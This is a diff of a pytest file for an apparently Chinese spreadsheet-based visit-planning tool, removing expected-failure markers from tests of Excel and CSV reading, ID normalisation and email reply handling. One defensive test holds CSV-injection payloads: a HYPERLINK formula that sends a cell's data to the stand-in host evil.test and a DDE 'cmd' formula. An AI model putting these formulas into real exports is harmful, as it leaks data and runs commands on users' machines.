@@ -109,8 +109,6 @@ def outbox(ctx, template: str | None = None) -> list[email.message.EmailMessage]
 
 # =========================================================================== the registry
 
-@pytest.mark.xfail(strict=True, reason="CSV export writes cells starting with = + - @ as they are: Excel runs them "
-                                       "as formulas (CSV injection); documents/tables.py table_bytes")
 @pytest.mark.parametrize("field, value", [
     ("name", '=HYPERLINK("http://evil.test/?d="&B3,"点击查看")'),
     ("contact", "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -136,8 +134,6 @@ def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_still_reads_back(c
     assert again.exit_code == 0 and "0 added, 0 changed, 1 unchanged" in again.output, again.output
 
 
-@pytest.mark.xfail(strict=True, reason="merged cells are read only in their top-left cell (openpyxl read_only): "
-                                       "rows under a merged 地区/等级 miss it; reading/tables.py _read_xlsx")
 @pytest.mark.parametrize("merged", [["E2:E4"], ["D2:D4", "F2:F4"], ["E2:E4", "G2:G4"]],
                          ids=["region", "type and tier", "region and designated visitor"])
 def test_a_registry_with_merged_cells_reads_each_row_with_the_value_shown(config_file, tmp_path, merged):
@@ -157,8 +153,6 @@ def test_a_registry_with_merged_cells_reads_each_row_with_the_value_shown(config
     assert all(f"{cid}\t" in listed for cid in ("C1", "C2", "C3")) and listed.count("\tA\tretailer\t上海\t李雷") == 3
 
 
-@pytest.mark.xfail(strict=True, reason="a number shown with leading zeros (format 00000) reads as 123, not the 00123 "
-                                       "Excel shows; reading/tables.py _cell_text ignores number_format")
 @pytest.mark.parametrize("fmt, shown", [("00000", "00123"), ("000000", "000123"), ("0000000000", "0000000123")])
 def test_an_id_excel_shows_with_leading_zeros_keeps_them(fmt, shown):
     def setup(book, sheet):
@@ -168,8 +162,6 @@ def test_an_id_excel_shows_with_leading_zeros_keeps_them(fmt, shown):
     assert rows[1].cells[0] == shown
 
 
-@pytest.mark.xfail(strict=True, reason="customer ids are compared as typed: a full-width Ａ００１ is another customer "
-                                       "than A001; reading/customers.py read_customers, store/customers.py")
 @pytest.mark.parametrize("typed", ["Ａ００１", "Ａ001", "A００１"], ids=["full width", "full-width letter", "full-width digits"])
 def test_an_id_typed_in_full_width_is_the_same_customer(config_file, tmp_path, typed):
     first = write_csv(tmp_path / "a.csv", [REGISTRY_HEADER, registry_row("A001", "华联超市")])
@@ -182,8 +174,6 @@ def test_an_id_typed_in_full_width_is_the_same_customer(config_file, tmp_path, t
     assert result.exit_code == 2 and "与第 2 行重复" in result.output, result.output
 
 
-@pytest.mark.xfail(strict=True, reason="the registry takes an address only when the whole cell is one; plans find it "
-                                       "inside 'Name <address>'; reading/customers.py _RowReader._visitor")
 @pytest.mark.parametrize("written", ["李雷 <li.lei@visitflow.test>", '"李雷" <LI.LEI@visitflow.test>',
                                      "李雷（li.lei@visitflow.test）"])
 def test_a_designated_visitor_written_as_name_and_address_is_that_person(config_file, tmp_path, written):
@@ -203,8 +193,6 @@ def _hidden_first(state: str, rows: list[list[str]]):
     return setup
 
 
-@pytest.mark.xfail(strict=True, reason="the first sheet is read even when it is hidden (a sheet of drop-down lists); "
-                                       "reading/tables.py _read_xlsx takes book.worksheets[0]")
 @pytest.mark.parametrize("state", ["hidden", "veryHidden"])
 @pytest.mark.parametrize("kind", ["registry", "plan"])
 def test_a_hidden_first_sheet_of_drop_down_lists_is_passed_over(config_file, cfg, tmp_path, state, kind):
@@ -222,8 +210,6 @@ def test_a_hidden_first_sheet_of_drop_down_lists_is_passed_over(config_file, cfg
 
 # =========================================================================== plans: reading
 
-@pytest.mark.xfail(strict=True, reason="merged 日期/巡访人 cells are empty below their first row: each later visit is "
-                                       "'missing'; reading/tables.py _read_xlsx (read_only ignores merges)")
 @pytest.mark.parametrize("merged", [["A4:A6"], ["C4:C6"], ["A4:A6", "C4:C6"]], ids=["date", "visitor", "both"])
 def test_a_plan_with_merged_date_and_visitor_cells_reads_every_visit(cfg, merged):
     rows = [["营业单位", "east"], ["期间", "2026-12"], ["日期", "客户名称", "巡访人", "目的"],
@@ -237,8 +223,6 @@ def test_a_plan_with_merged_date_and_visitor_cells_reads_every_visit(cfg, merged
     assert [(v.as_json()["date"], v.visitor) for v in plan.visits] == [("2026-12-03", REP)] * 3
 
 
-@pytest.mark.xfail(strict=True, reason="a plan date with a time (as tables.py itself writes a datetime cell) or a "
-                                       "weekday beside the day is 'unparseable'; reading/periods.py parse_plan_date")
 @pytest.mark.parametrize("cell", [datetime(2026, 12, 3, 9, 30), "2026/12/3 9:30", "2026年12月3日（周四）",
                                   "12月3日 星期四", "2026-12-03 周四"])
 def test_a_plan_date_with_a_time_or_its_weekday_reads_as_that_day(cfg, cell):
@@ -333,8 +317,6 @@ def _reply_headers(answered, *, in_reply_to: bool = True) -> dict[str, str]:
     return headers
 
 
-@pytest.mark.xfail(strict=True, reason="a corrected plan sent by Reply is routed as a reply that decides nothing "
-                                       "('no_decision_needed'): the plan is never read; workflows/replies.py handle")
 @pytest.mark.parametrize("client", ["outlook reply to the rejection", "gmail reply with References only",
                                     "reply to the receipt with a new version"])
 def test_a_plan_sent_by_replying_to_the_services_answer_is_read_as_a_plan(ctx, client):
